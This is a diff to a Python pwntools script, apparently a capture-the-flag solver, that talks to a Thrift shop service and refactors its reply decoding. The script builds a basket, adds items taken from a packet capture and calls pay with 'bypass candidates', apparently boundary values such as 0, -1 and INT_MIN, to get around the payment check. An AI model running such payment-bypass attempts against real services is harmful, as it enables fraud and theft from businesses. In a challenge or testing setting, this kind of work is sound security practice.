@@ -7,29 +7,19 @@
 # like 0, -1, INT_MIN, INT_MAX, LONG_MIN, LONG_MAX.
 
 from pwn import remote
+import os
 import struct
 import argparse
+import itertools
 from typing import List, Optional, Tuple
 
+from tbinary import Codec, IDL, Reply, read_message_begin, read_struct, T_CALL, T_STOP, T_I64, T_STRING
 
-# Thrift constants
-T_CALL = 1
-T_REPLY = 2
-T_EXCEPTION = 3
+HERE = os.path.dirname(os.path.abspath(__file__))
 
-T_STOP = 0
-T_VOID = 1
-T_BOOL = 2
-T_BYTE = 3
-T_DOUBLE = 4
-T_I16 = 6
-T_I32 = 8
-T_I64 = 10
-T_STRING = 11
-T_STRUCT = 12
-T_MAP = 13
-T_SET = 14
-T_LIST = 15
+# Reply decoders: the live server's wire schema (capture.thrift, results
+# wrapped in structs) first, then store.thrift for the local stand-in.
+CODECS = (Codec(IDL.load(os.path.join(HERE, "capture.thrift"))), Codec())
 
 
 def i16(x: int) -> bytes:
@@ -95,338 +85,48 @@ def recv_frame(io: remote) -> bytes:
     return data
 
 
+def decode_reply(pkt: bytes) -> Reply:
+    """First decoding that yields a success value or an exception."""
+    for codec in CODECS:
+        reply = codec.decode_reply(pkt)
+        if reply.success is not None or reply.exception is not None:
+            return reply
+    # neither schema matches: keep fid 0 as-is (a struct comes back keyed by fid)
+    name, mtype, seqid, off = read_message_begin(pkt)
+    result, _ = read_struct(pkt, off, None)
+    return Reply(name, mtype, seqid, result.get(0), None)
+
+
 def parse_reply_string_result(pkt: bytes) -> Tuple[Optional[str], Optional[str]]:
     """
     Parse a Thrift reply expecting a result struct that may contain a string
     success field (id=0). Returns (result_string, exception_message).
     """
-    off = 0
-
-    def read_i32() -> int:
-        nonlocal off
-        v = struct.unpack(">i", pkt[off : off + 4])[0]
-        off += 4
-        return v
-
-    def read_i16() -> int:
-        nonlocal off
-        v = struct.unpack(">h", pkt[off : off + 2])[0]
-        off += 2
-        return v
-
-    def read_byte() -> int:
-        nonlocal off
-        v = pkt[off]
-        off += 1
-        return v
-
-    def read_string() -> str:
-        nonlocal off
-        ln = read_i32()
-        s = pkt[off : off + ln]
-        off += ln
-        return s.decode("utf-8", errors="replace")
-
-    # Handle both strict and loose message headers
-    first = read_i32()
-    if (first & 0xFFFF0000) == 0x80010000:
-        # strict: first is version|type
-        mtype = first & 0xFF
-        name_len = read_i32()
-        off += name_len  # skip method name
-        _seqid = read_i32()
-    else:
-        # loose: first was name length
-        name_len = first
-        off += name_len
-        # mtype is a single byte
-        mtype = read_byte()
-        _seqid = read_i32()
-
-    if mtype == T_EXCEPTION:
-        # TApplicationException: fields are typically (1: message string), (2: type i32)
-        msg = None
-        while True:
-            t = read_byte()
-            if t == T_STOP:
-                break
-            fid = read_i16()
-            if t == T_STRING and fid == 1:
-                msg = read_string()
-            elif t == T_I32 and fid == 2:
-                _ = read_i32()
-            else:
-                # best-effort skip
-                if t == T_I16:
-                    _ = read_i16()
-                elif t == T_I32:
-                    _ = read_i32()
-                elif t == T_I64:
-                    off += 8
-                elif t == T_STRING:
-                    _ = read_string()
-                else:
-                    # unknown; bail
-                    break
-        return None, msg or "TApplicationException"
-
-    # Expect result struct
-    result = None
-    while True:
-        t = read_byte()
-        if t == T_STOP:
-            break
-        fid = read_i16()
-        if fid == 0 and t == T_STRING:
-            result = read_string()
-        elif fid == 0 and t == T_STRUCT:
-            # success is a struct; try to pull a string field inside (commonly fid=1)
-            inner_result = None
-            while True:
-                tt = read_byte()
-                if tt == T_STOP:
-                    break
-                _fid = read_i16()
-                if tt == T_STRING and _fid in (0, 1):
-                    inner_result = read_string()
-                elif tt == T_I64:
-                    off += 8
-                elif tt == T_I32:
-                    _ = read_i32()
-                elif tt == T_I16:
-                    _ = read_i16()
-                elif tt == T_STRUCT:
-                    # skip nested
-                    while True:
-                        ttt = read_byte()
-                        if ttt == T_STOP:
-                            break
-                        __fid = read_i16()
-                        if ttt == T_STRING:
-                            _ = read_string()
-                        elif ttt == T_I64:
-                            off += 8
-                        elif ttt == T_I32:
-                            _ = read_i32()
-                        elif ttt == T_I16:
-                            _ = read_i16()
-                        else:
-                            break
-                elif tt == T_STRING:
-                    _ = read_string()
-                else:
-                    # skip unknown
-                    break
-            if inner_result is not None:
-                result = inner_result
-        else:
-            # skip unknown field types conservatively
-            if t == T_I16:
-                _ = read_i16()
-            elif t == T_I32:
-                _ = read_i32()
-            elif t == T_I64:
-                off += 8
-            elif t == T_STRING:
-                _ = read_string()
-            elif t == T_STRUCT:
-                # skip nested struct fields until STOP
-                while True:
-                    tt = read_byte()
-                    if tt == T_STOP:
-                        break
-                    _fid = read_i16()
-                    if tt == T_STRING:
-                        _ = read_string()
-                    elif tt == T_I64:
-                        off += 8
-                    elif tt == T_I32:
-                        _ = read_i32()
-                    elif tt == T_I16:
-                        _ = read_i16()
-                    else:
-                        break
-            else:
-                # unhandled; give up
-                break
-
-    return result, None
+    reply = decode_reply(pkt)
+    if reply.exception is not None:
+        return None, reply.exception
+    result = reply.success
+    if isinstance(result, dict):
+        # success is a struct (e.g. Basket {1: id}); take its string field
+        result = next((v for v in result.values() if isinstance(v, str)), None)
+    return (result if isinstance(result, str) else None), None
 
 
 def call_get_inventory(io: remote, seqid: int = 1, strict: bool = True):
     """Return a list of dicts: [{slug, name, description, price}]"""
-    args = bytes([T_STOP])
-    send_call(io, "getInventory", args, seqid, strict)
-    pkt = recv_frame(io)
-
-    off = 0
-
-    def read_i32() -> int:
-        nonlocal off
-        v = struct.unpack(">i", pkt[off : off + 4])[0]
-        off += 4
-        return v
-
-    def read_i16() -> int:
-        nonlocal off
-        v = struct.unpack(">h", pkt[off : off + 2])[0]
-        off += 2
-        return v
-
-    def read_byte() -> int:
-        nonlocal off
-        v = pkt[off]
-        off += 1
-        return v
-
-    def read_string() -> str:
-        nonlocal off
-        ln = read_i32()
-        s = pkt[off : off + ln]
-        off += ln
-        return s.decode("utf-8", errors="replace")
-
-    def read_i64() -> int:
-        nonlocal off
-        v = struct.unpack(">q", pkt[off : off + 8])[0]
-        off += 8
-        return v
-
-    first = read_i32()
-    if (first & 0xFFFF0000) == 0x80010000:
-        _mtype = first & 0xFF
-        name_len = read_i32()
-        off += name_len
-        _seqid = read_i32()
-    else:
-        name_len = first
-        off += name_len
-        _mtype = read_byte()
-        _seqid = read_i32()
-
+    send_call(io, "getInventory", bytes([T_STOP]), seqid, strict)
+    reply = decode_reply(recv_frame(io))
+    success = reply.success
+    if isinstance(success, dict):
+        # success is a struct wrapping the list (Inventory {1: items})
+        success = next((v for v in success.values() if isinstance(v, list)), None)
     items = []
-    while True:
-        t = read_byte()
-        if t == T_STOP:
-            break
-        fid = read_i16()
-        if fid == 0 and t == T_LIST:
-            _etype = read_byte()
-            count = read_i32()
-            for idx in range(count):
-                elem = {"slug": None, "name": None, "description": None, "price": None}
-                while True:
-                    tt = read_byte()
-                    if tt == T_STOP:
-                        break
-                    ff = read_i16()
-                    # debug first item field map
-                    if idx == 0:
-                        print(f"[dbg] item0 field: type={tt} fid={ff}")
-                    if tt == T_STRING and ff == 1:
-                        elem["slug"] = read_string()
-                    elif tt == T_STRING and ff == 2:
-                        elem["name"] = read_string()
-                    elif tt == T_STRING and ff == 3:
-                        elem["description"] = read_string()
-                    elif tt in (T_I64, T_I32):
-                        val = read_i64() if tt == T_I64 else read_i32()
-                        elem["price"] = val
-                    elif tt == T_I32:
-                        _ = read_i32()
-                    elif tt == T_I64:
-                        _ = read_i64()
-                    elif tt == T_STRING:
-                        _ = read_string()
-                    else:
-                        break
-                items.append(elem)
-        elif fid == 0 and t == T_STRUCT:
-            # success wraps a struct containing the list (likely fid=1)
-            while True:
-                tt = read_byte()
-                if tt == T_STOP:
-                    break
-                ff = read_i16()
-                if tt == T_LIST and ff in (0, 1):
-                    _etype = read_byte()
-                    count = read_i32()
-                    for idx in range(count):
-                        elem = {"slug": None, "name": None, "description": None, "price": None}
-                        while True:
-                            ttt = read_byte()
-                            if ttt == T_STOP:
-                                break
-                            fff = read_i16()
-                            if idx == 0:
-                                print(f"[dbg] item0 field: type={ttt} fid={fff}")
-                            if ttt == T_STRING and fff == 1:
-                                elem["slug"] = read_string()
-                            elif ttt == T_STRING and fff == 2:
-                                elem["name"] = read_string()
-                            elif ttt == T_STRING and fff == 3:
-                                elem["description"] = read_string()
-                            elif ttt in (T_I64, T_I32):
-                                val = read_i64() if ttt == T_I64 else read_i32()
-                                elem["price"] = val
-                            elif ttt == T_I32:
-                                _ = read_i32()
-                            elif ttt == T_I64:
-                                _ = read_i64()
-                            elif ttt == T_STRING:
-                                _ = read_string()
-                            else:
-                                break
-                        items.append(elem)
-                else:
-                    # skip nested unexpected fields
-                    if tt == T_STRING:
-                        _ = read_string()
-                    elif tt == T_I32:
-                        _ = read_i32()
-                    elif tt == T_I64:
-                        _ = read_i64()
-                    elif tt == T_STRUCT:
-                        # consume until stop
-                        while True:
-                            ttt = read_byte()
-                            if ttt == T_STOP:
-                                break
-                            _ = read_i16()
-                            if ttt == T_STRING:
-                                _ = read_string()
-                            elif ttt == T_I32:
-                                _ = read_i32()
-                            elif ttt == T_I64:
-                                _ = read_i64()
-                            else:
-                                break
-        else:
-            # skip any unexpected field
-            if t == T_STRUCT:
-                while True:
-                    tt = read_byte()
-                    if tt == T_STOP:
-                        break
-                    _ = read_i16()
-                    if tt == T_STRING:
-                        _ = read_string()
-                    elif tt == T_I32:
-                        _ = read_i32()
-                    elif tt == T_I64:
-                        _ = read_i64()
-                    else:
-                        break
-            elif t == T_STRING:
-                _ = read_string()
-            elif t == T_I32:
-                _ = read_i32()
-            elif t == T_I64:
-                _ = read_i64()
-            elif t == T_LIST:
-                _ = read_byte(); _ = read_i32()
-                break
-
+    for it in success or []:
+        if not isinstance(it, dict):
+            continue
+        elem = {"slug": None, "name": None, "description": None, "price": None}
+        elem.update((k, v) for k, v in it.items() if k in elem)
+        items.append(elem)
     return items
 
 
@@ -469,10 +169,12 @@ def call_pay(io: remote, basket_id: str, total: int, seqid: int = 1, strict: boo
 
 def run(host: str, port: int, items: List[str]) -> None:
     io = remote(host, port)
+    # one seqid per call, so replies can never be confused for each other
+    seq = itertools.count(1)
 
     # create basket
     # Try strict first; fallback to loose header if needed
-    basket, exc = call_create_basket(io, 1, True)
+    basket, exc = call_create_basket(io, next(seq), True)
     if basket is None and exc is None:
         # try reading failed; attempt loose
         try:
@@ -480,7 +182,7 @@ def run(host: str, port: int, items: List[str]) -> None:
         except Exception:
             pass
         io = remote(host, port)
-        basket, exc = call_create_basket(io, 1, False)
+        basket, exc = call_create_basket(io, next(seq), False)
     if exc:
         print(f"createBasket exception: {exc}")
         return
@@ -491,7 +193,7 @@ def run(host: str, port: int, items: List[str]) -> None:
 
     # Fetch inventory and show prices for relevant items (best-effort)
     try:
-        inv = call_get_inventory(io, 2, True)
+        inv = call_get_inventory(io, next(seq), True)
         if inv:
             print("Inventory (prices if available):")
             for it in inv:
@@ -508,10 +210,8 @@ def run(host: str, port: int, items: List[str]) -> None:
     # Extra debug: dump printable strings from raw inventory frame
     try:
         args = bytes([T_STOP])
-        send_call(io, "getInventory", args, 99, True)
-        hdr = io.recvn(4)
-        (ln,) = struct.unpack(">I", hdr)
-        data = io.recvn(ln)
+        send_call(io, "getInventory", args, next(seq), True)
+        data = recv_frame(io)
         # extract printable strings of length >= 4
         import re
         ss = re.findall(rb"[ -~]{4,}", data)
@@ -526,7 +226,7 @@ def run(host: str, port: int, items: List[str]) -> None:
 
     # add chosen items (defaults to ones seen in the PCAP)
     for slug in items:
-        exc = call_add_to_basket(io, basket, slug, 2, True)
+        exc = call_add_to_basket(io, basket, slug, next(seq), True)
         if exc:
             print(f"addToBasket({slug}) -> exception: {exc}")
         else:
@@ -535,7 +235,7 @@ def run(host: str, port: int, items: List[str]) -> None:
     # Try exact computed total first (from inventory), then bypass candidates
     candidates = []
     try:
-        inv = call_get_inventory(io, 4, True)
+        inv = call_get_inventory(io, next(seq), True)
         price_map = {it.get("slug"): it.get("price") for it in inv if it.get("slug")}
         exact = sum(price_map.get(s, 0) or 0 for s in items)
         if exact > 0:
@@ -555,7 +255,7 @@ def run(host: str, port: int, items: List[str]) -> None:
     ]
 
     for t in candidates:
-        res, exc = call_pay(io, basket, t, 3, True)
+        res, exc = call_pay(io, basket, t, next(seq), True)
         if exc:
             print(f"pay(total={t}) -> exception: {exc}")
             continue